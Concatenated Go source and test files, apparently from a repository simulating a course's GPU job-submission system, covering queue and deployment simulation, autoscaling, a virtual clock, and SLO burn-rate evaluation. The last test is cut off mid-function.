func (d *Deployment) RunSubmission(ctx context.Context, c *core.Client, sub workload.Submission) (*core.JobResult, error) {
	d.Clock.AdvanceTo(sub.Time)
	fs := vfs.New()
	if err := project.WriteTo(fs, "/p", sub.Spec); err != nil {
		return nil, err
	}
	archive, err := archivex.PackVFS(fs, "/p")
	if err != nil {
		return nil, err
	}
	spec, err := core.PrepareProject(fs, "/p")
	if err != nil {
		return nil, err
	}
	type out struct {
		res *core.JobResult
		err error
	}
	done := make(chan out, 1)
	go func() {
		res, err := c.SubmitContext(ctx, sub.Kind, spec, archive)
		done <- out{res, err}
	}()
	// The submission is already on the queue when HandleOne subscribes
	// (the in-process broker publishes synchronously), so the wait never
	// has to fire — it only bounds a broken run on the virtual clock.
	if _, err := d.workers[0].HandleOne(ctx, 10*time.Second); err != nil {
		return nil, err
	}
	o := <-done
	return o.res, o.err
}

// RunCourse executes an entire generated course through the full stack
// (intended for scaled-down configs; the 41k-submission term uses
// QueueSim). It returns per-submission results keyed by order.
func (d *Deployment) RunCourse(ctx context.Context, course *workload.Course) ([]CourseResult, error) {
	clients := map[string]*core.Client{}
	var results []CourseResult
	var buf bytes.Buffer
	for _, sub := range course.Submissions {
		c, ok := clients[sub.Team]
		if !ok {
			var err error
			c, err = d.NewClient(sub.Team, &buf)
			if err != nil {
				return results, err
			}
			clients[sub.Team] = c
		}
		res, err := d.RunSubmission(ctx, c, sub)
		cr := CourseResult{Submission: sub}
		if err != nil {
			cr.Err = err
		}
		if res != nil {
			cr.Result = *res
		}
		results = append(results, cr)
		buf.Reset()
	}
	return results, nil
}

// CourseResult pairs a submission with its outcome.
type CourseResult struct {
	Submission workload.Submission
	Result     core.JobResult
	Err        error
}
