package sim

import (
	"fmt"
	"time"

	"rai/internal/cnn"
	"rai/internal/scaling"
	"rai/internal/shell"
	"rai/internal/stats"
	"rai/internal/workload"
)

// QueueSimConfig replays a course's arrival trace against a provisioned
// fleet at event level. Service times come from the same cost model the
// sandboxed shell uses, so the fast path and the full stack agree.
type QueueSimConfig struct {
	Course *workload.Course
	// Window filters arrivals to [From, To); zero values take the whole
	// course.
	From, To time.Time
	// Instance fleet shape.
	InstanceType     scaling.InstanceType
	SlotsPerInstance int
	Policy           scaling.Policy
	// DecisionInterval is how often the policy runs (default 1h).
	DecisionInterval time.Duration
	// Cost is the execution cost model (default calibrated).
	Cost shell.CostModel
	// TransferBytesPerSec models archive upload/download (default 20 MB/s).
	TransferBytesPerSec float64
}

// JobRecord is one simulated job.
type JobRecord struct {
	Team    string
	Kind    string
	Arrival time.Time
	Start   time.Time
	End     time.Time
	Service time.Duration
	Wait    time.Duration
	// RuntimeS is the internal-timer seconds for final submissions.
	RuntimeS float64
	// UploadBytes and LogBytes model the file-server traffic (§VII
	// aggregates: ~100 GB uploads, ~25 GB logs/meta-data).
	UploadBytes int64
	LogBytes    int64
	Failed      bool
}

// QueueSimResult aggregates a replay.
type QueueSimResult struct {
	Jobs  []JobRecord
	Fleet *scaling.Fleet
	// Waits collects queueing delays; Hourly counts arrivals per hour.
	Waits  stats.Durations
	Hourly *stats.TimeSeries
	// Totals.
	TotalUploadBytes int64
	TotalLogBytes    int64
	CostUSD          float64
	// PeakInstances is the largest fleet observed at a decision point.
	PeakInstances int
	End           time.Time
}

// RunQueueSim replays the configured window.
func RunQueueSim(cfg QueueSimConfig) (*QueueSimResult, error) {
	if cfg.Course == nil {
		return nil, fmt.Errorf("sim: QueueSimConfig.Course is required")
	}
	if cfg.Cost == nil {
		cfg.Cost = shell.DefaultCostModel()
	}
	if cfg.DecisionInterval <= 0 {
		cfg.DecisionInterval = time.Hour
	}
	if cfg.SlotsPerInstance <= 0 {
		cfg.SlotsPerInstance = 1
	}
	if cfg.TransferBytesPerSec <= 0 {
		cfg.TransferBytesPerSec = 20 << 20
	}
	if cfg.InstanceType.Name == "" {
		cfg.InstanceType = scaling.P2
	}
	from, to := cfg.From, cfg.To
	if from.IsZero() {
		from = cfg.Course.Cfg.Start
	}
	if to.IsZero() {
		to = cfg.Course.Cfg.Deadline.Add(time.Hour)
	}

	var arrivals []workload.Submission
	for _, s := range cfg.Course.Submissions {
		if s.Time.Before(from) || !s.Time.Before(to) {
			continue
		}
		arrivals = append(arrivals, s)
	}

	fleet := scaling.NewFleet(cfg.SlotsPerInstance)
	// Bootstrap the fleet at the policy's initial desired size, booted
	// before the window opens so capacity exists at t0.
	initial := cfg.Policy.Desired(scaling.PolicyInput{Now: from})
	if initial < 1 {
		initial = 1
	}
	fleet.Launch(initial, cfg.InstanceType, from.Add(-cfg.InstanceType.BootDelay))

	hours := int(to.Sub(from)/time.Hour) + 1
	res := &QueueSimResult{
		Fleet:  fleet,
		Hourly: stats.NewTimeSeries(from, time.Hour, hours),
	}

	nextDecision := from.Add(cfg.DecisionInterval)
	recentArrivals := 0
	var serviceSum time.Duration
	serviceCount := 0
	progressOf := func(t time.Time) float64 {
		total := cfg.Course.Cfg.Deadline.Sub(cfg.Course.Cfg.Start)
		return float64(t.Sub(cfg.Course.Cfg.Start)) / float64(total)
	}

	for _, sub := range arrivals {
		// Run scaling decisions for every elapsed boundary.
		for !sub.Time.Before(nextDecision) {
			avgService := 30.0
			if serviceCount > 0 {
				avgService = (serviceSum / time.Duration(serviceCount)).Seconds()
			}
			input := scaling.PolicyInput{
				Now:                   nextDecision,
				QueueDepth:            backlogEstimate(fleet, nextDecision, avgService),
				Active:                fleet.ActiveCount(nextDecision),
				RecentArrivalsPerHour: float64(recentArrivals) / cfg.DecisionInterval.Hours(),
				AvgServiceSeconds:     avgService,
			}
			desired := cfg.Policy.Desired(input)
			if desired > input.Active {
				fleet.Launch(desired-input.Active, cfg.InstanceType, nextDecision)
			} else if desired < input.Active {
				fleet.Terminate(input.Active-desired, nextDecision)
			}
			if n := fleet.ActiveCount(nextDecision); n > res.PeakInstances {
				res.PeakInstances = n
			}
			recentArrivals = 0
			nextDecision = nextDecision.Add(cfg.DecisionInterval)
		}
		recentArrivals++
		res.Hourly.Add(sub.Time)

		rec := simulateJob(sub, cfg, progressOf(sub.Time))
		start, err := fleet.Assign(sub.Time, rec.Service)
		if err != nil {
			return nil, err
		}
		rec.Arrival = sub.Time
		rec.Start = start
		rec.End = start.Add(rec.Service)
		rec.Wait = start.Sub(sub.Time)
		res.Jobs = append(res.Jobs, rec)
		res.Waits.Add(rec.Wait)
		res.TotalUploadBytes += rec.UploadBytes
		res.TotalLogBytes += rec.LogBytes
		serviceSum += rec.Service
		serviceCount++
		if rec.End.After(res.End) {
			res.End = rec.End
		}
	}
	if res.End.IsZero() {
		res.End = to
	}
	res.CostUSD = fleet.CostUSD(res.End)
	return res, nil
}

// backlogEstimate approximates jobs waiting as outstanding busy-time
// divided by the average service time.
func backlogEstimate(f *scaling.Fleet, now time.Time, avgServiceSeconds float64) int {
	if avgServiceSeconds <= 0 {
		return 0
	}
	out := f.OutstandingWork(now)
	return int(out.Seconds() / avgServiceSeconds)
}

// simulateJob derives one job's service time and traffic from the same
// cost model the container shell uses.
func simulateJob(sub workload.Submission, cfg QueueSimConfig, progress float64) JobRecord {
	cost := cfg.Cost
	rec := JobRecord{Team: sub.Team, Kind: sub.Kind}

	// Upload size grows as projects accumulate code, data, and reports;
	// calibrated so the 41k-submission term moves ≈100 GB (§VII: "the
	// file server held 100GB of data").
	teamFactor := 0.4 + 1.6*hashUnit(sub.Team)
	rec.UploadBytes = int64((0.2 + 1.9*progress*teamFactor) * (1 << 20))
	transfer := time.Duration(float64(rec.UploadBytes) / cfg.TransferBytesPerSec * float64(time.Second))

	containerStart := 2 * time.Second
	service := transfer + containerStart + cost.Configure()

	switch sub.Spec.Bug {
	case "compile":
		service += cost.Compile(100 << 10)
		rec.Failed = true
		rec.LogBytes = 64 << 10
	case "crash":
		service += cost.Compile(100<<10) + 500*time.Millisecond
		rec.Failed = true
		rec.LogBytes = 128 << 10
	default:
		service += cost.Compile(100 << 10)
		// Tuning models the quality of the *student* kernel; the provided
		// serial baseline is the same code for everyone, so its cost does
		// not scale with a team's (possibly terrible) kernel tuning.
		tuning := sub.Spec.Tuning
		if sub.Spec.Impl == cnn.ImplNaiveSerial && tuning > 2 {
			tuning = 2
		}
		if sub.Kind == "submit" {
			// Enforced Listing 2 spec: full dataset, timed.
			infer := cost.Inference(sub.Spec.Impl, 10_000, tuning)
			service += infer
			rec.RuntimeS = infer.Seconds()
			rec.LogBytes = 256 << 10
		} else {
			// Development run. Early on, teams poke at the provided
			// serial baseline with batched sweeps — "this baseline code
			// took dozens of minutes to execute" (§VII). From mid-course
			// the Listing 1 default exercises the small dataset; in the
			// benchmarking weeks students profile the full dataset and
			// repeat timed runs for stability ("students start
			// performing benchmarks and sensitive profiling").
			images := 10
			repeats := 1
			switch {
			case sub.Spec.Impl == cnn.ImplNaiveSerial:
				images = 2000
			case progress >= 0.85:
				images = 10_000
				repeats = 5
			case progress >= 0.6:
				images = 10_000
			}
			infer := cost.Inference(sub.Spec.Impl, images, tuning)
			service += time.Duration(repeats)*infer + cost.ProfileOverhead(infer)
			rec.LogBytes = int64(200<<10) + int64(progress*float64(600<<10))
		}
		// The /build archive travels back to the file server.
		service += transfer / 2
	}
	rec.Service = service
	return rec
}

// hashUnit maps a string to a stable value in [0,1).
func hashUnit(s string) float64 {
	var h uint64 = 14695981039346656037
	for i := 0; i < len(s); i++ {
		h ^= uint64(s[i])
		h *= 1099511628211
	}
	return float64(h>>11) / float64(1<<53)
}
