package sim

import (
	"context"
	"fmt"
	"io"
	"sync"
	"testing"
	"time"

	"rai/internal/cnn"
	"rai/internal/core"
	"rai/internal/project"
	"rai/internal/scaling"
)

// TestAutoscalerDrivesRealWorkers closes the elasticity loop end to end:
// queue depth on rai/tasks feeds the policy, the actuator spawns real
// workers, and a submission burst drains with more capacity than the
// initial fleet — the live version of the paper's §VII provisioning.
func TestAutoscalerDrivesRealWorkers(t *testing.T) {
	d, err := NewDeployment(DeployConfig{Workers: 1, RateLimit: time.Nanosecond})
	if err != nil {
		t.Fatal(err)
	}
	defer d.Close()
	// No worker runs yet: the burst queues up, and capacity exists only
	// once the autoscaler provisions it.

	var mu sync.Mutex
	var extra []*core.Worker
	spawn := func(n int) error {
		mu.Lock()
		defer mu.Unlock()
		for i := 0; i < n; i++ {
			w := &core.Worker{
				Cfg:      core.WorkerConfig{ID: fmt.Sprintf("auto-%d", len(extra)), MaxConcurrent: 1, RateLimit: time.Nanosecond},
				Queue:    d.Queue,
				Objects:  d.Objects,
				DB:       d.DB,
				Auth:     d.Auth,
				Images:   d.Images,
				DataFS:   d.DataFS,
				DataPath: "/data",
				Clock:    d.Clock,
			}
			extra = append(extra, w)
			go w.RunContext(context.Background())
		}
		return nil
	}
	stopOne := func(n int) error {
		mu.Lock()
		defer mu.Unlock()
		for i := 0; i < n && len(extra) > 0; i++ {
			w := extra[len(extra)-1]
			extra = extra[:len(extra)-1]
			go w.Stop()
		}
		return nil
	}
	as := &scaling.Autoscaler{
		Policy: scaling.ElasticPolicy{Min: 1, Max: 6, SlotsPerInstance: 1},
		Source: func() (scaling.PolicyInput, error) {
			return scaling.PolicyInput{
				QueueDepth: d.Broker.Depth(core.TasksTopic, core.TasksChannel),
			}, nil
		},
		ScaleUp:   spawn,
		ScaleDown: stopOne,
		Cooldown:  time.Hour,
	}
	as.SetCurrent(0)

	// Burst: 8 teams submit at once against a single worker.
	const burst = 8
	results := make(chan error, burst)
	for i := 0; i < burst; i++ {
		team := fmt.Sprintf("burst-%d", i)
		c, err := d.NewClient(team, io.Discard)
		if err != nil {
			t.Fatal(err)
		}
		c.LogWait = 0 // real-time wait via broker delivery, no clock timer
		go func(c *core.Client, team string) {
			archive, err := PackProject(project.Spec{Impl: cnn.ImplTiled, Team: team})
			if err != nil {
				results <- err
				return
			}
			res, err := c.SubmitContext(context.Background(), core.KindRun, nil, archive)
			if err == nil && res.Status != core.StatusSucceeded {
				err = fmt.Errorf("status %s", res.Status)
			}
			results <- err
		}(c, team)
	}

	// Wait for the whole burst to queue (no capacity exists yet), then
	// let the autoscaler react to the standing backlog.
	deadline := time.Now().Add(10 * time.Second)
	for d.Broker.Depth(core.TasksTopic, core.TasksChannel) < burst && time.Now().Before(deadline) {
		time.Sleep(time.Millisecond)
	}
	if depth := d.Broker.Depth(core.TasksTopic, core.TasksChannel); depth < burst {
		t.Fatalf("burst never queued: depth = %d", depth)
	}
	delta, err := as.Step()
	if err != nil {
		t.Fatal(err)
	}
	if delta <= 0 {
		t.Fatalf("autoscaler did not scale up under a burst (delta=%d)", delta)
	}
	if as.Current() < 2 {
		t.Fatalf("fleet = %d after burst", as.Current())
	}

	for i := 0; i < burst; i++ {
		select {
		case err := <-results:
			if err != nil {
				t.Fatal(err)
			}
		case <-time.After(30 * time.Second):
			t.Fatalf("burst stalled at job %d (fleet %d)", i, as.Current())
		}
	}
	mu.Lock()
	for _, w := range extra {
		w.Stop()
	}
	mu.Unlock()
	d.workers[0].Stop()
}
