package clock

import (
	"sync"
	"testing"
	"time"
)

var epoch = time.Date(2016, 11, 28, 0, 0, 0, 0, time.UTC)

func TestVirtualNow(t *testing.T) {
	v := NewVirtual(epoch)
	if got := v.Now(); !got.Equal(epoch) {
		t.Fatalf("Now() = %v, want %v", got, epoch)
	}
	v.Advance(90 * time.Minute)
	if got := v.Now(); !got.Equal(epoch.Add(90 * time.Minute)) {
		t.Fatalf("after Advance, Now() = %v", got)
	}
}

func TestVirtualAdvanceToBackwardIsNoop(t *testing.T) {
	v := NewVirtual(epoch)
	v.AdvanceTo(epoch.Add(-time.Hour))
	if got := v.Now(); !got.Equal(epoch) {
		t.Fatalf("backward AdvanceTo moved the clock to %v", got)
	}
}

func TestVirtualAfterFiresAtDeadline(t *testing.T) {
	v := NewVirtual(epoch)
	ch := v.After(10 * time.Second)
	select {
	case <-ch:
		t.Fatal("timer fired before the clock advanced")
	default:
	}
	v.Advance(9 * time.Second)
	select {
	case <-ch:
		t.Fatal("timer fired 1s early")
	default:
	}
	v.Advance(time.Second)
	select {
	case at := <-ch:
		want := epoch.Add(10 * time.Second)
		if !at.Equal(want) {
			t.Fatalf("timer delivered %v, want %v", at, want)
		}
	default:
		t.Fatal("timer did not fire at its deadline")
	}
}

func TestVirtualAfterZeroFiresImmediately(t *testing.T) {
	v := NewVirtual(epoch)
	select {
	case <-v.After(0):
	default:
		t.Fatal("After(0) did not fire immediately")
	}
}

func TestVirtualTimersFireInOrder(t *testing.T) {
	v := NewVirtual(epoch)
	var order []int
	var mu sync.Mutex
	var wg sync.WaitGroup
	for i, d := range []time.Duration{3 * time.Second, time.Second, 2 * time.Second} {
		wg.Add(1)
		go func(i int, ch <-chan time.Time) {
			defer wg.Done()
			at := <-ch
			mu.Lock()
			order = append(order, i)
			mu.Unlock()
			_ = at
		}(i, v.After(d))
	}
	// Advance step by step so goroutine wake-ups serialize per deadline.
	for s := 1; s <= 3; s++ {
		v.Advance(time.Second)
		// Each step fires exactly one timer; wait for it to record.
		deadline := time.Now().Add(2 * time.Second)
		for {
			mu.Lock()
			n := len(order)
			mu.Unlock()
			if n >= s || time.Now().After(deadline) {
				break
			}
			time.Sleep(time.Millisecond)
		}
	}
	wg.Wait()
	want := []int{1, 2, 0}
	for i := range want {
		if order[i] != want[i] {
			t.Fatalf("timers fired in order %v, want %v", order, want)
		}
	}
}

func TestVirtualPendingTimers(t *testing.T) {
	v := NewVirtual(epoch)
	_ = v.After(time.Minute)
	_ = v.After(time.Hour)
	if got := v.PendingTimers(); got != 2 {
		t.Fatalf("PendingTimers = %d, want 2", got)
	}
	dl, ok := v.NextDeadline()
	if !ok || !dl.Equal(epoch.Add(time.Minute)) {
		t.Fatalf("NextDeadline = %v,%v", dl, ok)
	}
	v.Advance(time.Minute)
	if got := v.PendingTimers(); got != 1 {
		t.Fatalf("after firing one, PendingTimers = %d, want 1", got)
	}
}

func TestVirtualSleepUnblocks(t *testing.T) {
	v := NewVirtual(epoch)
	done := make(chan struct{})
	go func() {
		v.Sleep(5 * time.Second)
		close(done)
	}()
	// Let the sleeper register its timer.
	for v.PendingTimers() == 0 {
		time.Sleep(time.Millisecond)
	}
	v.Advance(5 * time.Second)
	select {
	case <-done:
	case <-time.After(2 * time.Second):
		t.Fatal("Sleep did not unblock after Advance")
	}
}

func TestRealClockBasics(t *testing.T) {
	var r Real
	before := time.Now()
	now := r.Now()
	if now.Before(before.Add(-time.Second)) {
		t.Fatalf("Real.Now() = %v is far behind wall clock %v", now, before)
	}
	select {
	case <-r.After(time.Millisecond):
	case <-time.After(2 * time.Second):
		t.Fatal("Real.After(1ms) did not fire")
	}
}
