// Package clock provides a clock abstraction so the same code can run
// against the real wall clock in production daemons and against a
// deterministic virtual clock in simulations and tests.
//
// The virtual clock is the backbone of the reproduction harness: every
// simulated component (workers, the provisioner, the workload generator)
// advances through the same timeline, which makes figures such as the
// submissions-per-hour series of the paper's Figure 4 bit-reproducible.
package clock

import (
	"container/heap"
	"sync"
	"time"
)

// Clock is the minimal time source used throughout the repository.
type Clock interface {
	// Now returns the current time on this clock.
	Now() time.Time
	// After returns a channel that delivers the clock's time once d has
	// elapsed on this clock.
	After(d time.Duration) <-chan time.Time
	// Sleep blocks until d has elapsed on this clock.
	Sleep(d time.Duration)
}

// Real is the wall clock. Its zero value is usable.
type Real struct{}

// Now implements Clock.
func (Real) Now() time.Time { return time.Now() }

// After implements Clock.
func (Real) After(d time.Duration) <-chan time.Time { return time.After(d) }

// Sleep implements Clock.
func (Real) Sleep(d time.Duration) { time.Sleep(d) }

// Virtual is a manually advanced clock. Time moves only when Advance or
// AdvanceTo is called; timers created by After/Sleep fire when the clock
// passes their deadline. Virtual is safe for concurrent use.
type Virtual struct {
	mu     sync.Mutex
	now    time.Time
	timers timerHeap
	seq    int64
}

// NewVirtual returns a virtual clock positioned at start.
func NewVirtual(start time.Time) *Virtual {
	return &Virtual{now: start}
}

// Now implements Clock.
func (v *Virtual) Now() time.Time {
	v.mu.Lock()
	defer v.mu.Unlock()
	return v.now
}

// After implements Clock. The returned channel has capacity 1 so firing
// never blocks the advancing goroutine.
func (v *Virtual) After(d time.Duration) <-chan time.Time {
	ch := make(chan time.Time, 1)
	v.mu.Lock()
	defer v.mu.Unlock()
	if d <= 0 {
		ch <- v.now
		return ch
	}
	v.seq++
	heap.Push(&v.timers, &timer{at: v.now.Add(d), seq: v.seq, ch: ch})
	return ch
}

// Sleep implements Clock. It blocks until another goroutine advances the
// clock past the deadline. Sleeping on a virtual clock from the same
// goroutine that advances it deadlocks, as it would with real timers.
func (v *Virtual) Sleep(d time.Duration) { <-v.After(d) }

// Advance moves the clock forward by d, firing due timers in order.
func (v *Virtual) Advance(d time.Duration) {
	v.AdvanceTo(v.Now().Add(d))
}

// AdvanceTo moves the clock to t (no-op if t is not after the current
// time), firing due timers in deadline order.
func (v *Virtual) AdvanceTo(t time.Time) {
	v.mu.Lock()
	defer v.mu.Unlock()
	if !t.After(v.now) {
		return
	}
	for len(v.timers) > 0 && !v.timers[0].at.After(t) {
		tm := heap.Pop(&v.timers).(*timer)
		v.now = tm.at
		tm.ch <- tm.at
	}
	v.now = t
}

// PendingTimers reports how many timers have not fired yet.
func (v *Virtual) PendingTimers() int {
	v.mu.Lock()
	defer v.mu.Unlock()
	return len(v.timers)
}

// NextDeadline returns the deadline of the earliest pending timer and
// whether one exists.
func (v *Virtual) NextDeadline() (time.Time, bool) {
	v.mu.Lock()
	defer v.mu.Unlock()
	if len(v.timers) == 0 {
		return time.Time{}, false
	}
	return v.timers[0].at, true
}

type timer struct {
	at  time.Time
	seq int64
	ch  chan time.Time
}

type timerHeap []*timer

func (h timerHeap) Len() int { return len(h) }
func (h timerHeap) Less(i, j int) bool {
	if h[i].at.Equal(h[j].at) {
		return h[i].seq < h[j].seq
	}
	return h[i].at.Before(h[j].at)
}
func (h timerHeap) Swap(i, j int) { h[i], h[j] = h[j], h[i] }
func (h *timerHeap) Push(x any)   { *h = append(*h, x.(*timer)) }
func (h *timerHeap) Pop() any     { old := *h; n := len(old); t := old[n-1]; *h = old[:n-1]; return t }
