package slo

import (
	"testing"
	"time"
)

func TestParseConfigRoundTrip(t *testing.T) {
	cfg, err := ParseConfig([]byte(`{
		"objectives": [
			{"name": "avail", "target": 0.99,
			 "total": {"name": "rai_worker_jobs_total"},
			 "bad": {"name": "rai_worker_jobs_total", "labels": {"status": "failed"}}},
			{"name": "lat", "target": 0.95,
			 "histogram": {"name": "rai_worker_job_seconds"}, "threshold_s": 30}
		],
		"rules": [{"name": "page", "long": "1h", "short": "5m", "burn": 14.4}]
	}`))
	if err != nil {
		t.Fatal(err)
	}
	if len(cfg.Objectives) != 2 || len(cfg.Rules) != 1 {
		t.Fatalf("parsed %d objectives %d rules", len(cfg.Objectives), len(cfg.Rules))
	}
	if r := cfg.Rules[0]; r.Long != time.Hour || r.Short != 5*time.Minute || r.Burn != 14.4 {
		t.Fatalf("rule = %+v", r)
	}
}

func TestParseConfigRejects(t *testing.T) {
	cases := map[string]string{
		"no objectives": `{"objectives": []}`,
		"bad target": `{"objectives": [{"name": "x", "target": 1.5,
			"total": {"name": "a"}, "bad": {"name": "b"}}]}`,
		"both forms": `{"objectives": [{"name": "x", "target": 0.9,
			"total": {"name": "a"}, "bad": {"name": "b"},
			"histogram": {"name": "c"}, "threshold_s": 1}]}`,
		"neither form": `{"objectives": [{"name": "x", "target": 0.9}]}`,
		"zero threshold": `{"objectives": [{"name": "x", "target": 0.9,
			"histogram": {"name": "c"}}]}`,
		"duplicate names": `{"objectives": [
			{"name": "x", "target": 0.9, "total": {"name": "a"}, "bad": {"name": "b"}},
			{"name": "x", "target": 0.9, "total": {"name": "a"}, "bad": {"name": "b"}}]}`,
		"short > long": `{"objectives": [{"name": "x", "target": 0.9,
			"total": {"name": "a"}, "bad": {"name": "b"}}],
			"rules": [{"name": "r", "long": "5m", "short": "1h", "burn": 2}]}`,
	}
	for what, cfg := range cases {
		if _, err := ParseConfig([]byte(cfg)); err == nil {
			t.Errorf("%s: config accepted", what)
		}
	}
}

func TestDefaultObjectivesValidate(t *testing.T) {
	for _, o := range DefaultObjectives() {
		if err := o.Validate(); err != nil {
			t.Errorf("default objective %s invalid: %v", o.Name, err)
		}
	}
	for _, r := range DefaultRules() {
		if err := r.validate(); err != nil {
			t.Errorf("default rule %s invalid: %v", r.Name, err)
		}
	}
}
