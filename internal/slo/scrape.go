package slo

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"time"

	"rai/internal/telemetry"
)

// Scrape fetches every metrics URL, parses the expositions, and folds
// one Observe round into the engine. Endpoints that fail are skipped —
// a worker mid-restart must not blind the whole evaluation — and the
// joined error reports them. An all-endpoints-down round observes
// nothing (the history keeps its last reading) rather than recording a
// false zero.
func (e *Engine) Scrape(ctx context.Context, urls []string) error {
	var snaps []*telemetry.Snapshot
	var errs []error
	for _, u := range urls {
		snap, err := fetch(ctx, u)
		if err != nil {
			errs = append(errs, fmt.Errorf("%s: %w", u, err))
			continue
		}
		snaps = append(snaps, snap)
	}
	if len(snaps) > 0 {
		e.Observe(snaps...)
	}
	return errors.Join(errs...)
}

// Run scrapes the URLs every interval until ctx is done, reporting
// scrape failures to onErr (nil to ignore). The engine clock paces the
// loop, so tests drive it with a virtual clock.
func (e *Engine) Run(ctx context.Context, urls []string, interval time.Duration, onErr func(error)) {
	if interval <= 0 {
		interval = 5 * time.Second
	}
	for {
		select {
		case <-ctx.Done():
			return
		case <-e.clk.After(interval):
			if err := e.Scrape(ctx, urls); err != nil && onErr != nil {
				onErr(err)
			}
		}
	}
}

func fetch(ctx context.Context, url string) (*telemetry.Snapshot, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		return nil, err
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		return nil, err
	}
	defer resp.Body.Close()
	if resp.StatusCode != http.StatusOK {
		return nil, fmt.Errorf("status %s", resp.Status)
	}
	return telemetry.ParseText(resp.Body)
}
