package slo

import (
	"bytes"
	"context"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"rai/internal/clock"
	"rai/internal/telemetry"
)

var t0 = time.Date(2016, 11, 28, 9, 0, 0, 0, time.UTC)

// snapOf builds a synthetic scrape snapshot from name/labels/value
// triples.
func snapOf(samples ...telemetry.Sample) *telemetry.Snapshot {
	return &telemetry.Snapshot{Samples: samples}
}

func s(name string, value float64, kv ...string) telemetry.Sample {
	labels := map[string]string{}
	for i := 0; i+1 < len(kv); i += 2 {
		labels[kv[i]] = kv[i+1]
	}
	return telemetry.Sample{Name: name, Labels: labels, Value: value}
}

func availObjective(target float64) Objective {
	return Objective{
		Name:   "avail",
		Target: target,
		Total:  &Selector{Name: "rai_worker_jobs_total"},
		Bad:    &Selector{Name: "rai_worker_jobs_total", Labels: map[string]string{"status": "failed"}},
	}
}

// TestCountsAvailability: the total selector aggregates every status
// and every source; the bad selector only the failed series.
func TestCountsAvailability(t *testing.T) {
	o := availObjective(0.99)
	snaps := []*telemetry.Snapshot{
		snapOf(
			s("rai_worker_jobs_total", 90, "status", "succeeded"),
			s("rai_worker_jobs_total", 10, "status", "failed"),
		),
		snapOf(
			s("rai_worker_jobs_total", 50, "status", "succeeded"),
			s("rai_worker_jobs_total", 5, "status", "rejected"),
		),
	}
	bad, total := counts(&o, snaps)
	if bad != 10 || total != 155 {
		t.Fatalf("bad=%v total=%v, want 10/155", bad, total)
	}
}

// TestCountsLatency: good = cumulative bucket at the smallest edge >=
// threshold, summed across sources.
func TestCountsLatency(t *testing.T) {
	o := Objective{
		Name: "lat", Target: 0.95,
		Histogram:        &Selector{Name: "rai_worker_job_seconds"},
		ThresholdSeconds: 30,
	}
	mk := func(le string, v float64) telemetry.Sample {
		return s("rai_worker_job_seconds_bucket", v, "le", le)
	}
	snaps := []*telemetry.Snapshot{
		snapOf(mk("10", 50), mk("30", 80), mk("60", 95), mk("+Inf", 100),
			s("rai_worker_job_seconds_count", 100)),
		snapOf(mk("10", 5), mk("30", 10), mk("60", 10), mk("+Inf", 10),
			s("rai_worker_job_seconds_count", 10)),
	}
	bad, total := counts(&o, snaps)
	if total != 110 || bad != 110-90 {
		t.Fatalf("bad=%v total=%v, want 20/110", bad, total)
	}

	// A threshold between edges quantizes up to the next edge (60).
	o.ThresholdSeconds = 31
	if bad, _ := counts(&o, snaps); bad != 110-105 {
		t.Fatalf("off-edge threshold: bad=%v, want 5", bad)
	}
	// A threshold beyond every finite edge falls back to +Inf: all good.
	o.ThresholdSeconds = 1e6
	if bad, _ := counts(&o, snaps); bad != 0 {
		t.Fatalf("over-scale threshold: bad=%v, want 0", bad)
	}
}

// TestMultiWindowBurn drives a full incident on a virtual clock: clean
// traffic, a hard outage that fires the rule on both windows, then a
// recovery where the short window clears the alert long before the
// long window forgets — the entire point of multi-window burn rates.
func TestMultiWindowBurn(t *testing.T) {
	clk := clock.NewVirtual(t0)
	rules := []Rule{{Name: "page", Long: 10 * time.Minute, Short: 2 * time.Minute, Burn: 10}}
	e := NewEngine([]Objective{availObjective(0.99)}, WithClock(clk), WithRules(rules))

	good, bad := 0.0, 0.0
	observe := func() {
		e.Observe(snapOf(
			s("rai_worker_jobs_total", good, "status", "succeeded"),
			s("rai_worker_jobs_total", bad, "status", "failed"),
		))
	}
	tick := func(dGood, dBad float64) {
		clk.Advance(time.Minute)
		good, bad = good+dGood, bad+dBad
		observe()
	}
	observe()
	// 10 clean minutes.
	for i := 0; i < 10; i++ {
		tick(100, 0)
	}
	st := e.Evaluate()
	if len(st) != 1 || !st[0].Healthy || st[0].ErrorRate != 0 {
		t.Fatalf("clean traffic: %+v", st)
	}
	if st[0].BudgetRemaining != 1 {
		t.Errorf("clean budget = %v, want 1", st[0].BudgetRemaining)
	}

	// Outage: half of everything fails for 3 minutes. Burn = 0.5/0.01 =
	// 50 >= 10 on both windows.
	for i := 0; i < 3; i++ {
		tick(50, 50)
	}
	st = e.Evaluate()
	if st[0].Healthy {
		t.Fatalf("outage not detected: %+v", st[0])
	}
	rs := st[0].Rules[0]
	if !rs.Firing || rs.ShortBurn < 10 || rs.LongBurn < 10 {
		t.Fatalf("rule = %+v, want firing with both burns >= 10", rs)
	}

	// Recovery: clean traffic again. After 3 clean minutes the short
	// window (2m) is clean, so the page clears — even though the long
	// window still remembers the outage.
	for i := 0; i < 3; i++ {
		tick(100, 0)
	}
	st = e.Evaluate()
	rs = st[0].Rules[0]
	if rs.Firing {
		t.Fatalf("page did not clear after recovery: %+v", rs)
	}
	if !st[0].Healthy {
		t.Fatalf("recovered objective unhealthy: %+v", st[0])
	}
	if rs.LongBurn < 10 {
		t.Errorf("long window forgot the outage too fast: burn = %v", rs.LongBurn)
	}
	if st[0].BudgetRemaining >= 1 {
		t.Errorf("budget should show the outage: %v", st[0].BudgetRemaining)
	}
}

// TestOneShotEvaluation: a single observation evaluates against the
// counters' whole lifetime, so `raiadmin health` works from one scrape.
func TestOneShotEvaluation(t *testing.T) {
	clk := clock.NewVirtual(t0)
	e := NewEngine([]Objective{availObjective(0.99)}, WithClock(clk))
	e.Observe(snapOf(
		s("rai_worker_jobs_total", 50, "status", "succeeded"),
		s("rai_worker_jobs_total", 50, "status", "failed"),
	))
	st := e.Evaluate()
	if st[0].ErrorRate != 0.5 {
		t.Fatalf("one-shot error rate = %v, want 0.5", st[0].ErrorRate)
	}
	if st[0].Healthy {
		t.Fatal("50% failure rate evaluated healthy")
	}
}

// TestCounterResetClamped: a daemon restart drops cumulative counters;
// the rate must clamp to zero, never go negative.
func TestCounterResetClamped(t *testing.T) {
	clk := clock.NewVirtual(t0)
	e := NewEngine([]Objective{availObjective(0.99)}, WithClock(clk))
